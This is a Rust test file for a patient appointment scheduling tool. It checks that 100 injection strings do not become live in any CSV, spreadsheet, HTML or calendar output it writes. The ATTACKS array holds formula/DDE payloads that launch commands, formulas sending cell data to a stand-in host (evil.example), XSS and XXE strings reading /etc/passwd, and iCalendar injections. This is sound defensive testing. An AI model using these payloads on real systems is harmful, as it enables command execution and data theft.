//! Nothing that stands in a table becomes live in anything that is written from it: no formula, no markup, no further
//! event or line.

use std::collections::BTreeMap;

use calamine::{Data, Reader, Xlsx};
use rebook::desk::{Desk, Earlier, MessageOptions, outputs};
use rebook::prepare::prepare;
use rebook::tables::{OutputFile, ReadOptions, plan_files, read_case_files};
use rebook_tests::planner::engine_plan;

/// What people have tried on spreadsheets, pages, calendars and merge letters.
const ATTACKS: [&str; 100] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell -w hidden'!_xlbgnm.A1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=WEBSERVICE(\"http://evil.example/\"&A2)",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTRANGE(\"key\",\"A1\")",
    "=IMAGE(\"https://evil.example/pixel\")",
    "=SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=DDE(\"cmd\";\"/C calc\";\"!A0A0\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=EXEC(\"calc.exe\")",
    "=CALL(\"Kernel32\",\"WinExec\",\"JC\",\"calc\",0)",
    "=REGISTER.ID(\"a\",\"b\")",
    "=FILTERXML(\"<a/>\",\"/a\")",
    "=INDIRECT(\"'C:\\[x.xls]Sheet1'!A1\")",
    "=A1",
    "=\"a\"&\"b\"",
    "=",
    "==1",
    "= 1+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+44 7700 900000",
    "+HYPERLINK(\"http://evil.example\")",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "--1",
    "-@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@import url(http://evil.example)",
    "@@x",
    "'=1+1",
    "''=1+1",
    "'+1",
    "'@x",
    "'-1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a\t=1+1",
    "\";=1+1",
    "\"\n=1+1\n\"",
    "a,=1+1",
    "a;=1+1",
    "a\",\"=1+1",
    "%0A-1+1",
    "\u{ff1d}1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "|calc",
    "{=1+1}",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><desc><script>alert(1)</script></desc></svg>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "\"><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "<!-- -->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example>",
    "<style>@import url(http://evil.example)</style>",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "x\nATTACH:http://evil.example",
    "x\\nATTENDEE:mailto:evil@example.com",
    "END:VCALENDAR",
    "x;TZID=UTC:evil",
    "&L&\"Arial\"&G evil",
];

/// A table whose cells are quoted where they must be.
fn table(header: &str, rows: &[&[&str]]) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(header.split(',')).expect("what the test itself has written");
    for row in rows {
        writer.write_record(*row).expect("what the test itself has written");
    }
    writer.into_inner().expect("what the test itself has written")
}

/// What may hold the text beside the policy; the first of them that refuse it hold another.
const PLACES: usize = 3;

/// A small case with this text wherever a text can stand: in ids, in the names of the book, in the cells and the name of a column
/// of the requests, and in the policy. So many of these places, in this order, have a harmless one.
fn case_with(attack: &str, harmless: usize) -> BTreeMap<String, Vec<u8>> {
    let text = |place: usize| if place < harmless { "x" } else { attack };
    let (ids, book, cells) = (text(0), text(1), text(2));
    let id = |mark: &str| format!("{ids}{mark}");
    let [r1, r2, r3, r4, r5, p1, p2, p3, p4, site, session, slot, clinician] =
        ["r1", "r2", "r3", "r4", "r5", "p1", "p2", "p3", "p4", "S", "T", "U", "C"].map(id);
    let kept_name = format!("note {cells}");
    let header = format!(
        "request_id,patient_id,site_id,care_type,priority,original_start,contact_route,sms_permitted,reconciliation,needs,flags,\
         {}",
        "kept"
    );
    let start = "2024-07-19T09:00";
    let row = |r: &'static str| r;
    let requests = table(
        &header,
        &[
            &[&r1, &p1, &site, "gp-consultation", "GP1", start, "phone", "", "", "", cells, cells],
            &[&r2, &p2, &site, "gp-consultation", "GP5", start, "sms", "true", "not-seen", "", cells, cells],
            &[&r3, &p3, &site, "gp-consultation", "GP5", start, "letter", "", "not-seen", cells, "", cells],
            &[&r4, &p4, &site, "gp-consultation", cells, start, "phone", "", row("not-seen"), "", "", cells],
            &[&r5, &p4, &site, cells, "GP5", start, "phone", "", "not-seen", "", "", cells],
        ],
    );
    let requests = String::from_utf8(requests).expect("what the test itself has written");
    // The name of the column that is kept is text from outside as well.
    let mut name = csv::Writer::from_writer(Vec::new());
    name.write_record([kept_name.as_str()]).expect("what the test itself has written");
    let name = String::from_utf8(name.into_inner().expect("what the test itself has written"))
        .expect("what the test itself has written");
    let requests = requests.replacen(",kept", &format!(",{}", name.trim_end_matches('\n')), 1);
    let slots: Vec<Vec<String>> = (0..12)
        .map(|at| {
            let start = format!("2024-07-2{}T09:{:02}", 2 + at / 4, 15 * (at % 4));
            vec![format!("{slot}{at}"), format!("{session}{}", at / 4), start, "15".to_owned()]
        })
        .collect();
    let slots: Vec<Vec<&str>> = slots.iter().map(|row| row.iter().map(String::as_str).collect()).collect();
    let slots: Vec<&[&str]> = slots.iter().map(Vec::as_slice).collect();
    let sessions: Vec<Vec<String>> = (0..3)
        .map(|day| {
            let at = |hour: u32| format!("2024-07-2{}T{hour:02}:00", 2 + day);
            let cells = [format!("{session}{day}"), clinician.clone(), site.clone(), at(9), at(10)];
            cells.to_vec()
        })
        .collect();
    let sessions: Vec<Vec<&str>> =
        sessions.iter().map(|row| row.iter().map(String::as_str).collect()).collect();
    let sessions: Vec<&[&str]> = sessions.iter().map(Vec::as_slice).collect();
    let text = |text: &str| serde_json::to_string(text).expect("what the test itself has written");
    let policy = format!(
        "name = {}\nversion = {}\napproved_by = {}\nstart = \"2024-07-22\"\nhorizon_days = 5\n",
        text(attack),
        text(attack),
        text(attack)
    );
    [
        ("requests.csv", requests.into_bytes()),
        ("slots.csv", table("slot_id,session_id,start,duration_minutes", &slots)),
        ("sessions.csv", table("session_id,practitioner_id,site_id,start,end", &sessions)),
        ("clinicians.csv", table("practitioner_id,role", &[&[&clinician, "gp"]])),
        ("sites.csv", table("site_id,name,practice", &[&[&site, book, book]])),
        ("policy.toml", policy.into_bytes()),
    ]
    .into_iter()
    .map(|(name, bytes)| (name.to_owned(), bytes))
    .collect()
}

/// Everything that is written from a case: the plan's files and what is made from them.
fn everything(attack: &str) -> Vec<OutputFile> {
    // Some texts are refused in ids, or in every table: line breaks are.
    let read = |harmless: usize| {
        let name = if harmless < PLACES { format!("note {attack}") } else { "note x".to_owned() };
        let keep_columns = vec![name.trim().to_owned()];
        let keeping = ReadOptions { keep_columns, ..ReadOptions::default() };
        let files = case_with(attack, harmless);
        read_case_files(&files, &keeping).or_else(|_| read_case_files(&files, &ReadOptions::default()))
    };
    let case = (0..=PLACES).find_map(|harmless| read(harmless).ok());
    let case = case.unwrap_or_else(|| panic!("{attack:?} cannot be read anywhere"));
    let plan = engine_plan(&case).expect("what the test itself has written");
    assert!(plan.plan.len() >= 2, "{attack:?}: too little is placed to say anything");
    let prepared = prepare(&case);
    let desk = Desk::new(&case, &prepared, &plan).expect("what the test itself has written");
    let mut written = plan_files(&plan, &case.kept_columns).expect("what the test itself has written");
    written.extend(
        outputs(&desk, &Earlier::default(), &MessageOptions::default())
            .expect("what the test itself has written"),
    );
    written
}

fn is_live(cell: &str) -> bool {
    matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

fn check_csv(attack: &str, file: &OutputFile) {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).flexible(false).from_reader(file.bytes.as_slice());
    for record in reader.records() {
        let record = record.unwrap_or_else(|error| panic!("{attack:?} in {}: {error}", file.name));
        for cell in &record {
            assert!(!is_live(cell), "{attack:?} is live in {}: {cell:?}", file.name);
        }
    }
}

fn check_workbook(attack: &str, file: &OutputFile) {
    let mut book: Xlsx<_> =
        Xlsx::new(std::io::Cursor::new(&file.bytes)).expect("what the test itself has written");
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("what the test itself has written");
        assert!(formulas.used_cells().all(|(_, _, text)| text.is_empty()), "{attack:?}: formula in {sheet}");
        for (_, _, cell) in
            book.worksheet_range(&sheet).expect("what the test itself has written").used_cells()
        {
            if let Data::String(text) = cell {
                assert!(!is_live(text), "{attack:?} is live in {sheet}: {text:?}");
            }
        }
    }
}

/// Tags that run, fetch or change something: a page has its own, and data add none.
const TAGS: [&str; 12] = [
    "<script",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<iframe",
    "<img",
    "<object",
    "<form",
    "<a href=\"http",
    "<svg/",
    "<!",
];

fn tags(page: &str) -> Vec<(&'static str, usize)> {
    TAGS.iter().map(|&tag| (tag, page.matches(tag).count())).collect()
}

fn check_page(attack: &str, file: &OutputFile, harmless: &str) {
    let page = std::str::from_utf8(&file.bytes).expect("what the test itself has written");
    // What has a meaning in a page stands there only in another spelling.
    if attack.contains(['<', '>', '"', '&']) {
        assert!(!page.contains(attack), "{attack:?} stands in {} as it is", file.name);
    }
    assert_eq!(tags(page), tags(harmless), "{attack:?} in {}", file.name);
}

fn check_calendar(attack: &str, file: &OutputFile) {
    let text =
        std::str::from_utf8(&file.bytes).expect("what the test itself has written").replace("\r\n ", "");
    let mut open: Vec<&str> = Vec::new();
    for line in text.split_terminator("\r\n") {
        assert!(!line.contains(['\r', '\n']), "{attack:?}: a line ends inside {line:?}");
        if let Some(name) = line.strip_prefix("BEGIN:") {
            open.push(name);
        } else if let Some(name) = line.strip_prefix("END:") {
            assert_eq!(open.pop(), Some(name), "{attack:?} in {}", file.name);
        }
        let name = line.split([':', ';']).next().unwrap_or_default();
        let known = |c: char| c.is_ascii_uppercase() || c == '-';
        assert!(!name.is_empty() && name.chars().all(known), "{attack:?}: {line:?} in {}", file.name);
        for unwanted in ["ATTACH", "ATTENDEE", "ORGANIZER", "URL", "DESCRIPTION"] {
            assert_ne!(name, unwanted, "{attack:?} in {}", file.name);
        }
    }
    assert!(open.is_empty());
}

#[test]
fn no_attack_is_live_in_anything_that_is_written() {
    let harmless = everything("harmless");
    let harmless =
        harmless.iter().find(|file| file.name == "report.html").expect("what the test itself has written");
    let harmless = std::str::from_utf8(&harmless.bytes).expect("what the test itself has written");
    let mut kinds: BTreeMap<String, usize> = BTreeMap::new();
    for attack in ATTACKS {
        for file in everything(attack) {
            let kind = file.name.rsplit('.').next().unwrap_or_default().to_owned();
            match kind.as_str() {
                "csv" => check_csv(attack, &file),
                "xlsx" => check_workbook(attack, &file),
                "html" => check_page(attack, &file, harmless),
                "ics" => check_calendar(attack, &file),
                "json" => assert!(serde_json::from_slice::<serde_json::Value>(&file.bytes).is_ok()),
                other => panic!("{}: what is {other}?", file.name),
            }
            *kinds.entry(kind).or_default() += 1;
        }
    }
    for kind in ["csv", "xlsx", "html", "ics", "json"] {
        assert!(kinds.get(kind).is_some_and(|&count| count >= ATTACKS.len()), "{kind}: {kinds:?}");
    }
}
